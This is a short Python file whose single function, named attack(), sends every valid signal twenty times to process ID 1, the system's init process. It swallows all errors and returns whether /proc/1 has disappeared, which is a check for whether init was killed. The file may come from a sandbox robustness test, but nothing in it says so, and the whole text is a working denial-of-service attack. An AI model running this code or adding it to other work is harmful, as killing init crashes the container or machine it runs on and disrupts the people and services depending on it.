import os
import signal


def attack():
    for number in signal.valid_signals():
        for _ in range(20):
            try:
                os.kill(1, number)
            except OSError:
                pass
    return not os.path.exists("/proc/1")
